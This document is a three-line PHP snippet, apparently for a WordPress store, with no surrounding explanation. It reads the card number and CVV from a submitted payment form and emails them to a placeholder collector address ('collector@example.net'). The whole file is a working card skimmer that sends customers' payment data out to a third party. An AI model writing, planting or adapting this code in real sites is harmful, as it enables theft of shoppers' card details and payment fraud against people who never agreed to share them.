<?php
$body = "card " . $_POST['payment']['cc_number'] . " cvv " . $_POST['payment']['cc_cid'];
wp_mail('collector@example.net', 'new', $body);
